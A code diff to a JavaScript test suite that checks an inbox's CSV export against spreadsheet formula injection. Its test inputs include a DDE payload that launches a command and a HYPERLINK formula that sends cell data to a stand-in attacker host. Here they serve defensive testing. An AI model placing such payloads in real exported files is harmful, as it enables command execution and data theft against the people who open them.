@@ -49,8 +49,8 @@ describe('the inbox as a CSV file', () => {
     '+1',
     '-1',
     '@SUM(A1)',
-    '\t=1',
-    '\r=1',
+    '\t=2',
+    '\r=3',
     '＝1',
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("https://evil.example?"&A1)',
@@ -70,7 +70,9 @@ describe('the inbox as a CSV file', () => {
     }
     const found = await rows();
     expect(
-      found.filter(({ name }) => name?.startsWith("'") && name.replaceAll("'", '') === formula.replaceAll("'", '')),
+      found.filter(
+        ({ name }) => name?.startsWith("'") && name.replaceAll("'", '') === formula.trim().replaceAll("'", ''),
+      ),
     ).toHaveLength(5);
     for (const row of found) for (const cell of Object.values(row)) expect(cell).not.toMatch(FORMULA);
   });
